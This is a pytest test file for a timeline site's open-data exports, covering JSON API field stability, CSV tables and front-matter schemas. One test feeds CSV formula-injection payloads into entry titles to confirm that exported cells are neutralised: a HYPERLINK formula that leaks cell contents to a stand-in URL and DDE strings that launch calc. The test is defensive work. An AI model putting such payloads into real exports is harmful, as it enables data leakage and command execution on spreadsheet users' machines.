"""Open data of the real site, read by other people's parsers, and of the invented world."""

import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import pytest
from bad_files import CASES, PATH
from conftest import ROOT
from jsonschema import Draft202012Validator, FormatChecker
from timeline.downloads.downloads import downloads
from timeline.downloads.front_matter_schema import MODELS, front_matter_schema
from timeline.downloads.tables import table_names, tables
from timeline.model.document import UnreadableError, take_apart
from timeline.model.site import read_site
from timeline.model.terms import TERMS
from timeline.model.vocabulary import PendingState
from timeline.source.as_of import known_on
from timeline.source.project import Project
from timeline.standing.standing import Standing

SHAPE = Path(__file__).parent / "api-v1-shape.json"
DAY = datetime.date(2022, 3, 1)
SITE = "https://timeline.example.org/"


def files_of(root: Path, day: datetime.date = DAY) -> dict[str, bytes]:
    """All downloads of a checkout."""
    loaded = Project(root).load()
    assert loaded.collection is not None, loaded.problems
    collection = known_on(loaded.collection, day)
    return dict(downloads(Standing(collection, day), read_site(root)))


def json_of(site: Path, path: str) -> Any:
    return json.loads((site / path).read_text(encoding="utf-8"))


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def change(file: Path, before: str, after: str) -> None:
    text = file.read_text(encoding="utf-8")
    assert before in text
    file.write_text(text.replace(before, after), encoding="utf-8")


# The shape of v1


def shape(value: Any) -> Any:
    """Types instead of values; of a list, what all its items have together."""
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [merged([shape(inner) for inner in value])]
    names = {bool: "boolean", int: "number", float: "number", str: "text", type(None): "null"}
    return names[type(value)]


def merged(shapes: list[Any]) -> Any:
    """One shape of several; fails where a field comes and goes, or is now this and now that."""
    known = [one for one in shapes if one not in ("null", "nothing")]
    if not known:
        return "null" if "null" in shapes else "nothing"
    if all(isinstance(one, dict) for one in known):
        assert all(one.keys() == known[0].keys() for one in known), "a field comes and goes"
        return {key: merged([one[key] for one in known]) for key in known[0]}
    if all(isinstance(one, list) for one in known):
        return [merged([one[0] for one in known])]
    assert all(one == known[0] for one in known), f"now {known[0]}, now something else"
    return known[0]


def kept(promised: Any, found: Any) -> bool:
    """Whether all that was promised is there, of its type or without a value."""
    if found in ("null", "nothing") or promised in ("null", "nothing"):
        return True
    if isinstance(promised, dict) and isinstance(found, dict):
        return all(key in found and kept(promised[key], found[key]) for key in promised)
    if isinstance(promised, list) and isinstance(found, list):
        return kept(promised[0], found[0])
    return bool(promised == found)


def lists(files: dict[str, bytes]) -> dict[str, Any]:
    """The shapes of the lists, and of the entries and years with texts."""
    found = {}
    for name in ("entries", *TERMS, "deadlines"):
        found[name] = shape(json.loads(files[f"api/v1/{name}.json"]))
    years = [path for path in files if path.startswith("api/v1/years/")]
    found["years"] = merged([shape(json.loads(files[path])) for path in years])
    return found


def test_a_field_of_v1_is_never_renamed_or_removed(
    world: Path, request: pytest.FixtureRequest
) -> None:
    """`--write-golden` adds new fields to the file, once those that stand in it are kept."""
    real = lists(files_of(ROOT, datetime.date(2026, 11, 22)))
    invented = lists(files_of(world))
    found = {name: merged([real[name], invented[name]]) for name in real}
    promised = json.loads(SHAPE.read_text(encoding="utf-8"))
    assert {name for name in promised if not kept(promised[name], found.get(name))} == set()
    if request.config.getoption("--write-golden"):
        promised = found
        SHAPE.write_text(json.dumps(found, indent=1) + "\n", encoding="utf-8")
    new = {name for name, told in found.items() if not kept(told, promised.get(name))}
    assert new == set(), "promise the new fields too: --write-golden"


def test_a_renamed_and_a_removed_field_are_noticed(world: Path) -> None:
    promised = json.loads(SHAPE.read_text(encoding="utf-8"))["entries"]
    found = shape(json.loads(files_of(world)["api/v1/entries.json"]))
    assert kept(promised, found)
    entry = found["entries"][0]
    penalty = entry["penalties"][0]
    for whole, key in ((entry, "date_precision"), (penalty, "amount"), (found, "as_of")):
        value = whole.pop(key)
        assert not kept(promised, found), key
        whole[key] = "boolean"
        assert not kept(promised, found), key
        whole[key] = value


def test_the_promised_fields(site: Path) -> None:
    """What the design promises to other programs, word for word."""
    for entry in json_of(site, "api/v1/entries.json")["entries"]:
        assert re.fullmatch(r"\d{4}(-\d\d){0,2}", entry["date"])
        precisions = {4: "year", 7: "month", 10: "day"}
        assert entry["date_precision"] == precisions[len(entry["date"])]
        assert entry["url"] == f"{SITE}entries/{entry['id']}/"
        assert json_of(site, f"api/v1/entries/{entry['id']}.json")["id"] == entry["id"]
    states = set(PendingState) - {PendingState.SUPERSESSION}
    for instrument in json_of(site, "api/v1/instruments.json")["instruments"]:
        promised = {"id", "name", "short", "name_zh", "rank", "force", "validity", "pending"}
        assert promised <= instrument.keys()
        assert instrument["force"] in {"binding", "voluntary", "relied-on"}
        assert {"state", "from"} <= instrument["validity"].keys()
        for pending in instrument["pending"]:
            assert pending["state"] in states
            assert {"state", "day"} <= pending.keys()
    for due in json_of(site, "api/v1/deadlines.json")["deadlines"]:
        assert {"date", "what", "entry", "instrument", "regulators"} <= due.keys()
        assert datetime.date.fromisoformat(due["date"])


def test_years_hold_all_entries_with_their_texts(site: Path) -> None:
    listed = json_of(site, "api/v1/entries.json")["entries"]
    found = [
        entry
        for file in sorted((site / "api/v1/years").iterdir(), reverse=True)
        for entry in json_of(site, f"api/v1/years/{file.name}")["entries"]
    ]
    assert [entry["id"] for entry in found] == [entry["id"] for entry in listed]
    for entry, whole in zip(listed, found, strict=True):
        assert whole.pop("body")
        assert whole == entry


def test_an_entry_as_json(world: Path) -> None:
    files = files_of(world)
    assert json.loads(files["api/v1/entries/2022-02-03-south-harbour-fined.json"]) == {
        "id": "2022-02-03-south-harbour-fined",
        "url": "https://world.example/entries/2022-02-03-south-harbour-fined/",
        "title": "South Harbour fined over tables",
        "date": "2022-02-03",
        "date_precision": "day",
        "type": "enforcement",
        "regulators": ["toa"],
        "topics": ["tides"],
        "newsletters": ["gull-2021-06"],
        "sources": [],
        "instruments": [
            {
                "id": "tide-watch",
                "stage": "batch",
                "round": 2,
                "comments_close": None,
                "effective": [],
                "articles": [],
            }
        ],
        "jurisdiction": "CN",
        "highlight": False,
        "dates": None,
        "date_note": None,
        "number": None,
        "deadlines": [],
        "parties": ["South Harbour Ltd"],
        "penalties": [
            {
                "party": "South Harbour Ltd",
                "measure": "administrative-fine",
                "amount": 12345.5,
                "currency": "CNY",
                "basis": [
                    {"id": "tide-act", "articles": ["4"], "text": None},
                    {"id": None, "articles": [], "text": "the Harbour Code"},
                ],
            },
            {
                "party": "South Harbour Ltd",
                "measure": "warning",
                "amount": None,
                "currency": None,
                "basis": [],
            },
        ],
        "related": [],
        "added": "2022-02-04",
        "changes": [],
        "aliases": [],
        "withdrawn": None,
        "body": "South Harbour was fined.",
    }
    passed = json.loads(files["api/v1/entries/2021-03-01-tide-act-passed.json"])
    assert passed["dates"]["decided"] == "2021-02-27"
    assert passed["dates"]["decided_precision"] == "day"
    assert passed["dates"]["passed_precision"] is None
    assert "](https://world.example/entries/2021-harbours-pledge/)" in passed["body"]


# Tables


def read_package(descriptor: Path) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of what frictionless imports
        from frictionless import Package  # noqa: PLC0415

        return Package(str(descriptor))


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
@pytest.mark.parametrize("which", ["site", "earlier_site"])
def test_frictionless_finds_no_fault_with_the_tables(
    which: str, request: pytest.FixtureRequest
) -> None:
    site: Path = request.getfixturevalue(which)
    package = read_package(site / "data/datapackage.json")
    report = package.validate()
    assert report.valid, report.to_summary()
    assert package.resource_names == list(table_names())
    assert {f"{name}.csv" for name in table_names()} | {"datapackage.json"} == {
        file.name for file in (site / "data").iterdir() if file.name != "index.html"
    }


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_frictionless_sees_a_wrong_table(site: Path, tmp_path: Path) -> None:
    """The test above can fail."""
    for file in (site / "data").iterdir():
        (tmp_path / file.name).write_bytes(file.read_bytes())
    change(tmp_path / "penalties.csv", "administrative-fine", "fine")
    assert not read_package(tmp_path / "datapackage.json").validate().valid


def test_tables_hold_what_the_json_holds(site: Path) -> None:
    entries = rows_of((site / "data/entries.csv").read_bytes())
    listed = json_of(site, "api/v1/entries.json")["entries"]
    assert [row["id"] for row in entries] == [entry["id"] for entry in listed]
    assert [row["title"] for row in entries] == [entry["title"] for entry in listed]
    assert [row["topics"].split("; ") for row in entries] == [entry["topics"] for entry in listed]
    penalties = rows_of((site / "data/penalties.csv").read_bytes())
    amounts = [p["amount"] for entry in listed for p in entry["penalties"]]
    assert [float(row["amount"]) if row["amount"] else None for row in penalties] == amounts
    instruments = rows_of((site / "data/instruments.csv").read_bytes())
    states = [
        i["validity"]["state"] for i in json_of(site, "api/v1/instruments.json")["instruments"]
    ]
    assert [row["validity_state"] for row in instruments] == states


def test_chinese_opens_in_excel(site: Path) -> None:
    content = (site / "data/instruments.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    names = {row["id"]: row["name_zh"] for row in rows_of(content)}
    assert names["pipl"] == "中华人民共和国个人信息保护法"


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://a.example/?"&A1,"x")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "＝1＋1",
    ],
)
def test_a_cell_is_never_a_formula(world: Path, title: str) -> None:
    file = world / "entries/2022/2022-02-03-south-harbour-fined.md"
    quoted = json.dumps(title, ensure_ascii=False)
    change(file, "title: South Harbour fined over tables", f"title: {quoted}")
    change(file, "parties: [South Harbour Ltd]", f"parties: [A, {quoted}]")
    files = files_of(world)
    row = rows_of(files["data/entries.csv"])[0]
    assert row["title"] == f"'{title}"
    assert row["parties"] == f"A; '{title}"
    for path, content in files.items():
        if path.endswith(".csv"):
            cells = [cell for row in rows_of(content) for cell in row.values()]
            assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r＝＋－＠"))]
    listed = json.loads(files["api/v1/entries.json"])["entries"]
    assert listed[0]["title"] == title  # as it is where no spreadsheet reads it


def test_every_column_is_filled_from_the_records(world: Path) -> None:
    loaded = Project(world).load()
    assert loaded.collection is not None
    for table in tables(Standing(loaded.collection, DAY), read_site(world)):
        names = [column.name for column in table.columns]
        assert len(names) == len(set(names))
        assert all(column.description for column in table.columns), table.name


# The schema


def validator(name: str) -> Draft202012Validator:
    schema = front_matter_schema(MODELS[name])
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker(["date"]))


@pytest.mark.parametrize("name", MODELS)
def test_the_front_matter_of_every_file_agrees_with_its_schema(name: str, site: Path) -> None:
    published = json_of(site, f"schema/{name}.schema.json")
    assert published["$id"] == f"{SITE}schema/{name}.schema.json"
    Draft202012Validator.check_schema(published)
    checked = Draft202012Validator(published, format_checker=FormatChecker(["date"]))
    kind = next((kind for kind, model in TERMS.items() if model is MODELS[name]), None)
    folder = ROOT / "docs" / kind if kind else ROOT / "entries"
    files = [file for file in folder.rglob("*.md") if file.name != "index.md"]
    assert files
    for file in files:
        values = take_apart(file.read_text(encoding="utf-8")).values
        assert [error.message for error in checked.iter_errors(values)] == [], file


# What no schema of one file sees: the body, the YAML, the calendar, other files, the file's name.
UNSEEN = {
    "good", "windows line ends", "repeated key", "impossible date",
    "date disagrees with the name", "date corrected", "added before it happened",
    "empty regulators", "empty body", "nul byte", "misleading characters",
    "effective on a consultation", "a day moved, a step divided",
    "a day moved that nobody recorded", "a day moved of an instrument that has none",
    "a day moved to itself", "a day moved when it had passed",
    "comments", "stages of another kind", "related to itself",
    "alias taken", "html in the body", "comment in the body", "links in the body",
    "a link behind a bracket", "addresses of no host", "escaped misleading characters",
    "nested lists in the body", "brackets without end", "brackets of Chinese titles without end",
    "yaml tags", "too large",
}  # fmt: skip


def test_the_schema_and_the_check_agree_on_bad_files() -> None:
    schema, accepted = validator("entry"), set()
    for case in CASES:
        if case.path == PATH:
            try:
                values = take_apart(case.data.decode()).values
            except (UnreadableError, UnicodeDecodeError):
                continue  # no front matter to speak of
            if schema.is_valid(values):
                accepted.add(case.name)
    assert accepted == UNSEEN


def test_a_day_of_effect_may_be_a_day_or_a_list() -> None:
    values = take_apart((ROOT / "tests/world/entries/2021/2021-03-01-tide-act-passed.md")
                        .read_text(encoding="utf-8")).values  # fmt: skip
    schema = validator("entry")
    assert schema.is_valid(values)
    for effective, sound in (("2021-06-01", True), ("2021-06", False), ([], False), (2021, False)):
        values["instruments"] = [{"id": "tide-act", "stage": "passed", "effective": effective}]
        assert schema.is_valid(values) is sound, effective


def test_words_carry_their_labels() -> None:
    words = front_matter_schema(MODELS["entry"])["$defs"]["EntryType"]["oneOf"]
    assert {"const": "judicial", "title": "Courts"} in words


# The page that explains them

EXAMPLES = re.findall(
    r"^```python\n(.*?)^```$",
    (ROOT / "docs/data.md").read_text(encoding="utf-8"),
    re.MULTILINE | re.DOTALL,
)


@pytest.mark.parametrize("number", range(len(EXAMPLES)))
def test_an_example_works(number: int, address: str) -> None:
    assert f'SITE = "{SITE}"' in EXAMPLES[number]
    done = subprocess.run(
        [sys.executable, "-c", EXAMPLES[number].replace(SITE, address)],
        env=os.environ | {"NO_PROXY": "127.0.0.1", "PYTHONUTF8": "1"},
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.strip()


def test_every_address_that_the_page_names_is_there(site: Path) -> None:
    text = (ROOT / "docs/data.md").read_text(encoding="utf-8")
    named = re.findall(r"`/([^`]+)`", text)
    entry = next((site / "api/v1/entries").iterdir()).stem
    assert len(named) > 10
    for path in named:
        assert (site / path.replace("ID", entry)).is_file(), path
    page = (site / "data/index.html").read_text(encoding="utf-8")
    for path in ("../api/v1/entries.json", "../data/steps.csv", "../schema/topic.schema.json"):
        assert f'href="{path}"' in page
